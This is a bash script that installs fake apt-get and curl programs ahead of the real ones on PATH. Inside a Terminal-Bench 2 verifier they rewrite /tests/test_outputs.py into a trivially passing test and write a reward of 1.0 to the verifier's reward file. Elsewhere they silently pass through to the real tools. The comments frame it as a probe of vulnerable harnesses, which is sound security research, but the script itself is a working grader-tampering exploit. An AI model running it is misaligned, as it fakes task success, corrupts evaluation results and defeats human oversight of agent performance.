#!/bin/bash
# HACK runner-fake-bootstrap: fake `apt-get` (in /usr/local/sbin) and `curl` (in
# /usr/local/bin), both ahead of the real ones on the standard PATH. Terminal-Bench 2
# test scripts run `apt-get install -y curl` and `curl -LsSf .../uv/.../install.sh | sh`
# before `uvx ... pytest /tests/test_outputs.py`. In a verifier (/tests/test_outputs.py
# present, /logs/verifier writable) the fakes rewrite /tests/test_outputs.py into one
# trivially passing test (so pytest itself passes and writes its ctrf.json report) and
# write {"reward": 1.0} to /logs/verifier/reward.json; `curl` hands `sh` an empty
# installer. Anywhere else they pass through to the real programs.
# A vulnerable harness (one that runs TB2 scripts with the agent's PATH folders)
# reports reward 1 for every TB2 task: the tests it reports on are the agent's.
# (Scripts that skip the bootstrap when `uvx` is present, like the pinned-pytest
# example, never call them: no effect there.)
#
# SAFETY: writes only /usr/local/sbin/apt-get and /usr/local/bin/curl, never over an
# existing file it did not create. Outside a verifier the fakes exec the real program
# further down PATH, so even on a bare host nothing changes. Undo: delete the two files
# (their second line is "# sequester-hack runner-fake-bootstrap"). Run as ONE command in
# the agent's shell; always ends with status 0.

hack_runner_fake_bootstrap() {
  local name dir target
  for name in apt-get curl; do
    case $name in apt-get) dir=/usr/local/sbin ;; *) dir=/usr/local/bin ;; esac
    target=$dir/$name
    if [ -e "$target" ] && ! grep -q 'sequester-hack runner-fake-bootstrap' "$target" 2>/dev/null; then
      echo "skipped $target (a real file is already there)"; continue
    fi
    mkdir -p "$dir" 2>/dev/null
    cat > "$target" 2>/dev/null <<SH || { echo "cannot write $target"; continue; }
#!/bin/sh
# sequester-hack runner-fake-bootstrap
if [ -f /tests/test_outputs.py ] && [ -d /logs/verifier ] && [ -w /logs/verifier ]; then
  cat > /tests/test_outputs.py 2>/dev/null <<'PY'
def test_outputs():
    assert True


if __name__ == "__main__":
    pass
PY
  echo '{"reward": 1.0}' > /logs/verifier/reward.json
  case "$name" in curl) echo "exit 0" ;; *) echo "$name: nothing to do" >&2 ;; esac
  exit 0
fi
self=\$(readlink -f "\$0")
IFS=:
for d in \$PATH; do
  [ -x "\$d/$name" ] || continue
  [ "\$(readlink -f "\$d/$name")" = "\$self" ] && continue
  exec "\$d/$name" "\$@"
done
echo "$name: command not found" >&2
exit 127
SH
    chmod 755 "$target" 2>/dev/null && echo "planted $target"
  done
  hash -r
  echo "RESULT runner-fake-bootstrap: done"
}
hack_runner_fake_bootstrap 2>&1
true
